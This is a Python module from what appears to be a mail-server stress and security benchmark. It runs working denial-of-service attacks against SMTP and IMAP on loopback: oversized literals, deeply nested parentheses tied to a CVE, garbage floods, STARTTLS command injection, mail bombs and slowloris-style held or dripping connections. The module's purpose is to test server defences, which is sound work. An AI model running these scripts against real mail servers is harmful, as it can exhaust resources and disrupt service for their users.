"""Attackers on loopback: each kind a small script, repeated on many connections at a set pace.

They come from addresses of their own (127.0.1.1 to 127.0.1.8), as attackers do, so that limits
for one address hit them and not the honest clients. Everything is bounded: connections, octets of
an attempt, attempts a second. Classes 2, 6 and 8 of the attacks; and what any port scanner does.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass, field
from functools import cache
from typing import Final

import uvloop

from bench.load.apart import Signals, own_cpu
from bench.load.bombs import BOMBS
from bench.model import BenchError, Endpoint

_ADDRESSES: Final = 8
_SILENCE: Final = 0.1  # s without an answer after which an attempt is over
_PATIENCE: Final = 20.0  # s for anything that must come; a bomb may be chewed long
_DRIP: Final = 0.1  # s between two octets
_HELD_SPOOL: Final = 250_000  # octets of a message that never ends
_HELD_LITERALS: Final = 13  # of 4,096 octets each: just within 64 KiB before sign-in
_LITERAL: Final = 4_096
_GARBAGE: Final = b"".join(b'XQ%03d \x7f%%(\\"{}\r\n' % (n % 1000) for n in range(4_000))


@dataclass(frozen=True, slots=True)
class AttackPlan:
    """Which attack, on whom, how hard. It ends when `signals.stop` is set."""

    kind: str
    smtp: Endpoint
    imap: Endpoint  # without TLS before the greeting
    victim: str  # the address that bombs are sent to
    connections: int
    every: float  # s that each connection waits between two attempts
    signals: Signals


@dataclass(slots=True)
class AttackResult:
    """What was tried and what came of it."""

    attempts: int = 0
    cut: int = 0  # connections that the server ended
    octets: int = 0  # sent
    held: int = 0  # connections that were open at the end
    executed: int = 0  # commands behind STARTTLS that were answered as if they were secure
    refused: int = 0  # bombs that got no 250
    answers: list[float] = field(default_factory=list)  # s until a bomb was decided
    seconds: float = 0.0
    cpu: float = 0.0  # s that the attacker used

    @property
    def per_second(self) -> float:
        return self.attempts / self.seconds if self.seconds else 0.0

    @property
    def attacker_share(self) -> float:
        """How much of one core the attacker used."""
        return self.cpu / self.seconds if self.seconds else 0.0


class _Line:
    """One connection of an attacker."""

    def __init__(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, result: AttackResult
    ) -> None:
        self._reader = reader
        self._writer = writer
        self.result = result

    async def say(self, data: bytes) -> None:
        if self._writer.is_closing():
            raise ConnectionResetError("ended by the server")
        self._writer.write(data)
        self.result.octets += len(data)
        async with asyncio.timeout(_PATIENCE):
            await self._writer.drain()

    async def line(self) -> bytes:
        """The next line. Raises ConnectionError at the end."""
        async with asyncio.timeout(_PATIENCE):
            line = await self._reader.readline()
        if not line.endswith(b"\n"):
            raise ConnectionResetError("ended by the server")
        return line

    async def reply(self) -> bytes:
        """The last line of the next SMTP reply."""
        while (line := await self.line())[3:4] == b"-":
            pass
        return line

    async def rest(self) -> bytes:
        """All that comes until the end or a silence."""
        pieces = []
        try:
            while True:
                async with asyncio.timeout(_SILENCE):
                    piece = await self._reader.read(65_536)
                if not piece:
                    self.result.cut += 1
                    break
                pieces.append(piece)
        except TimeoutError:
            pass
        return b"".join(pieces)

    @property
    def ended(self) -> bool:
        """Whether the server has closed."""
        return self._reader.at_eof() or self._writer.is_closing()

    def close(self) -> None:
        self._writer.transport.abort()


# --- one attempt each -----------------------------------------------------------------------------


async def _literals(line: _Line, plan: AttackPlan) -> None:
    """Giant literals before sign-in: announced, then simply sent. RFC 7888 §4."""
    await line.line()
    await line.say(b"a LOGIN {4294967295}\r\nb ID ({18446744073709551616}\r\n")
    await line.say(b"c LOGIN {2000000+}\r\n" + bytes(1_000_000))
    await line.rest()


async def _parentheses(line: _Line, plan: AttackPlan) -> None:
    """A list of a million lists, and one that just fits a line. CVE-2026-27857."""
    await line.line()
    await line.say(b"a ID " + b"(" * 15_000 + b"\r\n")
    await line.say(b"b ID " + b"(" * 1_000_000 + b"\r\n")
    await line.rest()


async def _imap_garbage(line: _Line, plan: AttackPlan) -> None:
    """4,000 commands that are none, in one write."""
    await line.say(_GARBAGE)
    await line.rest()


async def _smtp_garbage(line: _Line, plan: AttackPlan) -> None:
    await line.say(b"EHLO evil.example\r\n" + _GARBAGE)
    await line.rest()


async def _imap_starttls(line: _Line, plan: AttackPlan) -> None:
    """A command in the same write as STARTTLS must never be answered. RFC 3501 §6.2.1."""
    await line.line()
    await line.say(b"a STARTTLS\r\nb CAPABILITY\r\n")
    answer = await line.rest()
    if b"a OK" in answer and b"\r\nb " in answer.partition(b"a OK")[2]:
        line.result.executed += 1


async def _smtp_starttls(line: _Line, plan: AttackPlan) -> None:
    """The same for SMTP. RFC 3207 §6, CVE-2011-0411."""
    await line.line()
    await line.say(b"EHLO evil.example\r\nSTARTTLS\r\nMAIL FROM:<mallory@evil.example>\r\n")
    answer = await line.rest()
    if b"\r\n220 " in answer and b"\r\n250 " in answer.rpartition(b"\r\n220 ")[2]:
        line.result.executed += 1


async def _bomb(line: _Line, plan: AttackPlan) -> None:
    await _to_content(line, plan)
    began = time.monotonic()
    await line.say(_message(plan.kind))
    answer = await line.reply()
    line.result.answers.append(time.monotonic() - began)
    line.result.refused += not answer.startswith(b"250")


async def _to_content(line: _Line, plan: AttackPlan) -> None:
    """Greeting to 354. Raises BenchError where an honest sender would also be refused."""
    await line.reply()
    envelope = f"MAIL FROM:<mallory@example.org>\r\nRCPT TO:<{plan.victim}>\r\nDATA\r\n"
    await line.say(b"EHLO client.example.org\r\n" + envelope.encode())
    for wanted in (b"250", b"250", b"250", b"354"):
        answer = await line.reply()
        if not answer.startswith(wanted):
            raise BenchError(f"no bomb could be sent: {answer!r}")


@cache
def _message(kind: str) -> bytes:
    return BOMBS[kind]() + b".\r\n"  # no line of a bomb begins with a dot


# --- what is opened once and held -----------------------------------------------------------------


async def _hold_imap(line: _Line, plan: AttackPlan) -> None:
    """A command before sign-in, as large as it may be, that never ends."""
    await line.line()
    piece = b"{%d+}\r\n" % _LITERAL + b"x" * _LITERAL + b" "
    await line.say(b"a ID (" + piece * _HELD_LITERALS)


async def _hold_smtp(line: _Line, plan: AttackPlan) -> None:
    """A message of which all but the end has come."""
    await _to_content(line, plan)
    row = b"x" * 98 + b"\r\n"
    await line.say(row * (_HELD_SPOOL // len(row)))


async def _drip(line: _Line, plan: AttackPlan) -> None:
    """The beginning of a command; the rest comes octet by octet."""
    await line.line()
    await line.say(b"a LOGIN ")


_Script = Callable[[_Line, AttackPlan], Awaitable[None]]

HELD: Final[Mapping[str, _Script]] = {
    "imap-held": _hold_imap,
    "smtp-held": _hold_smtp,
    "drip": _drip,
}
REPEATED: Final[Mapping[str, _Script]] = {
    "literals": _literals,
    "parentheses": _parentheses,
    "imap-garbage": _imap_garbage,
    "smtp-garbage": _smtp_garbage,
    "imap-starttls": _imap_starttls,
    "smtp-starttls": _smtp_starttls,
    **dict.fromkeys(BOMBS, _bomb),
}
_SMTP: Final = frozenset({"smtp-held", "smtp-garbage", "smtp-starttls", *BOMBS})

_BROKEN: Final = (OSError, TimeoutError, asyncio.IncompleteReadError)


def attack(plan: AttackPlan) -> AttackResult:
    """Attack until told to stop. Raises BenchError if the attack itself cannot be made."""
    return uvloop.run(_attack(plan))


async def _attack(plan: AttackPlan) -> AttackResult:
    result = AttackResult()
    asyncio.get_running_loop().set_exception_handler(_note)
    if plan.kind in BOMBS:
        _message(plan.kind)  # made before the clock runs
    began, cpu = time.monotonic(), own_cpu()
    run = _hold if plan.kind in HELD else _repeat
    await run(plan, result)
    result.seconds = time.monotonic() - began
    result.cpu = own_cpu() - cpu
    return result


def _note(loop: asyncio.AbstractEventLoop, context: dict[str, object]) -> None:
    """A connection that the server ends while nobody waits for it is what is expected."""
    if not isinstance(context.get("exception"), OSError):
        loop.default_exception_handler(context)


async def _repeat(plan: AttackPlan, result: AttackResult) -> None:
    """Every connection attempts again and again."""
    plan.signals.ready.set()

    async def keep_on(number: int) -> None:
        await asyncio.sleep(plan.every * number / plan.connections)
        while not plan.signals.stop.is_set():
            await _attempt(plan, result, number)
            await asyncio.sleep(plan.every)

    await asyncio.gather(*(keep_on(number) for number in range(plan.connections)))


async def _attempt(plan: AttackPlan, result: AttackResult, number: int) -> None:
    result.attempts += 1
    try:
        line = await _open(plan, result, number)
    except _BROKEN:
        result.cut += 1
        return
    try:
        await REPEATED[plan.kind](line, plan)
    except _BROKEN:
        result.cut += 1
    finally:
        line.close()


async def _hold(plan: AttackPlan, result: AttackResult) -> None:
    """Open and fill all; then one octet from each, now and then, until told to stop."""
    lines: list[_Line] = []
    try:
        for number in range(plan.connections):
            result.attempts += 1
            try:
                line = await _open(plan, result, number)
                lines.append(line)
                await HELD[plan.kind](line, plan)
            except _BROKEN:
                result.cut += 1
        plan.signals.ready.set()
        while not plan.signals.stop.is_set():
            for line in lines:
                if not line.ended:
                    await _push(line)
            await asyncio.sleep(_DRIP)
        result.held = sum(not line.ended for line in lines)
        result.cut = len(lines) - result.held
    finally:
        for line in lines:
            line.close()


async def _push(line: _Line) -> None:
    """One octet more, if the server still takes any."""
    try:
        await line.say(b"x")
    except _BROKEN:
        line.close()


async def _open(plan: AttackPlan, result: AttackResult, number: int) -> _Line:
    to = plan.smtp if plan.kind in _SMTP else plan.imap
    source = f"127.0.1.{1 + number % _ADDRESSES}"
    async with asyncio.timeout(_PATIENCE):
        reader, writer = await asyncio.open_connection(to.host, to.port, local_addr=(source, 0))
    return _Line(reader, writer, result)
